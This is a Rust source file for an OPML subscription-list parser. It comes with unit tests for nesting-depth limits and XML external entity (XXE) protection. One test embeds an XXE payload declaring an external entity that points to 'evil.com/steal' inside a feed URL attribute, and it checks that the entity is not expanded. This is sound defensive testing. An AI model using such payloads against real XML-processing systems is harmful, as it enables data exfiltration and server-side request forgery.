use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use thiserror::Error;

/// SEC-003: Maximum allowed nesting depth for OPML outline elements.
/// Prevents stack overflow attacks from maliciously crafted deeply nested OPMLs.
const MAX_OPML_DEPTH: usize = 50;

/// Errors that can occur during OPML parsing.
#[derive(Debug, Error)]
pub enum OpmlError {
    /// SEC-003: OPML nesting depth exceeds safety limit.
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    /// XML parsing failed.
    #[error("XML parse error: {0}")]
    XmlParse(String),
}

/// Extracts feed addresses from OPML subscription list content.
///
/// Returns the `xmlUrl` of every `<outline>` at any depth, in document
/// order. Folder outlines (no `xmlUrl`) are traversed but not returned.
/// Duplicates are kept; the feed list loader collapses them.
pub fn parse_opml_content(content: &str) -> Result<Vec<String>, OpmlError> {
    // SEC-002: XXE protection: quick-xml (0.37) never parses <!ENTITY> declarations from
    // DOCTYPE. Only the 5 XML builtins are resolved by `decode_and_unescape_value()`;
    // custom entities like &xxe; fail with `EscapeError::UnrecognizedEntity`.
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut urls = Vec::new();
    let mut buf = Vec::new();
    // SEC-003: Track nesting depth to prevent stack overflow from malicious OPMLs
    let mut depth: usize = 0;

    loop {
        match reader.read_event_into(&mut buf) {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                depth += 1;
                if depth > MAX_OPML_DEPTH {
                    return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }
                urls.extend(outline_xml_url(&e, &reader)?);
            }
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                // Self-closing outline doesn't affect depth
                urls.extend(outline_xml_url(&e, &reader)?);
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                depth = depth.saturating_sub(1);
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(OpmlError::XmlParse(e.to_string())),
            _ => {}
        }
        buf.clear();
    }

    Ok(urls)
}

/// Returns the trimmed `xmlUrl` attribute of an outline, if it has a non-empty one.
fn outline_xml_url(e: &BytesStart<'_>, reader: &Reader<&[u8]>) -> Result<Option<String>, OpmlError> {
    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        if attr.key.as_ref() == b"xmlUrl" {
            let value = attr
                .decode_and_unescape_value(reader.decoder())
                .map_err(|e| OpmlError::XmlParse(e.to_string()))?;
            let value = value.trim();
            return Ok((!value.is_empty()).then(|| value.to_string()));
        }
    }
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_nested_outlines() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Test Feeds</title></head>
  <body>
    <outline text="News" title="News">
      <outline type="rss" text="BBC" xmlUrl="https://feeds.bbci.co.uk/news/rss.xml" htmlUrl="https://bbc.co.uk"/>
      <outline type="rss" text="Guardian" xmlUrl="https://www.theguardian.com/world/rss"/>
    </outline>
    <outline type="rss" text="Top" xmlUrl="https://example.com/feed?a=1&amp;b=2"/>
  </body>
</opml>"#;

        let urls = parse_opml_content(content).expect("Failed to parse OPML content");
        assert_eq!(
            urls,
            vec![
                "https://feeds.bbci.co.uk/news/rss.xml",
                "https://www.theguardian.com/world/rss",
                "https://example.com/feed?a=1&b=2",
            ]
        );
    }

    #[test]
    fn test_outline_without_url_skipped() {
        let content = r#"<opml version="2.0"><body>
        <outline text="Folder"/>
        <outline text="Blank" xmlUrl="  "/>
        <outline text="Feed" xmlUrl=" https://example.com/rss "/>
    </body></opml>"#;

        let urls = parse_opml_content(content).unwrap();
        assert_eq!(urls, vec!["https://example.com/rss"]);
    }

    #[test]
    fn test_empty_opml() {
        let content = r#"<?xml version="1.0"?><opml version="2.0"><body></body></opml>"#;
        assert!(parse_opml_content(content).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        let result = parse_opml_content("<opml><body><outline xmlUrl=\"x\"></body>");
        assert!(matches!(result, Err(OpmlError::XmlParse(_))));
    }

    #[test]
    fn test_xxe_entity_in_url_attribute() {
        // SEC-002: Entity references in xmlUrl attributes must not expand.
        let opml_entity_in_url = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.com/steal">]>
<opml version="2.0">
    <body>
        <outline text="Legit Feed" xmlUrl="&exfil;"/>
    </body>
</opml>"#;

        match parse_opml_content(opml_entity_in_url) {
            Ok(urls) => {
                for url in &urls {
                    assert!(!url.contains("evil.com"), "Entity expanded in URL! URL: {}", url);
                }
            }
            Err(_) => {
                // Rejection is the expected behavior
            }
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        // SEC-003: 100 nested outlines exceeds MAX_OPML_DEPTH of 50
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..100 {
            opml.push_str(r#"<outline text="level">"#);
        }
        for _ in 0..100 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let err = parse_opml_content(&opml).unwrap_err();
        let err_msg = err.to_string();
        assert!(
            err_msg.contains("depth") && err_msg.contains("50"),
            "Error should mention depth limit: {}",
            err_msg
        );
    }

    #[test]
    fn test_nesting_at_depth_limit_allowed() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..50 {
            opml.push_str(r#"<outline text="level">"#);
        }
        opml.push_str(r#"<outline text="Deep Feed" xmlUrl="https://deep.example.com/feed"/>"#);
        for _ in 0..50 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let urls = parse_opml_content(&opml).unwrap();
        assert_eq!(urls, vec!["https://deep.example.com/feed"]);
    }
}
